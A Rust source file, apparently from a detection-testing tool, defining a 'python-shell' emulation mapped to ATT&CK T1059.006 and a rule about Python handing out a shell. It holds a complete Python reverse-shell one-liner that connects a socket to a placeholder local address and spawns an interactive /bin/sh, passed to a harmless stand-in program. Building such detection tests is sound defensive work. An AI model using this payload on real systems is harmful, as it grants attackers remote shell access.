//! The classical one-liner, given to a program that does nothing.

use crate::{
    Emulation,
    stage::{Failure, Stage},
};

pub(crate) const EMULATION: Emulation = Emulation {
    id: "python-shell",
    title: "Python told to tie a shell to the network",
    technique: "T1059.006",
    technique_v18: None,
    needs: &[],
    rules: &["Python handing out a shell"],
    act,
};

fn act(stage: &Stage) -> Result<(), Failure> {
    stage.pretend("python3", &["-c", "import socket,subprocess,os;s=socket.socket();s.connect((\"127.0.0.1\",9));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"])
}
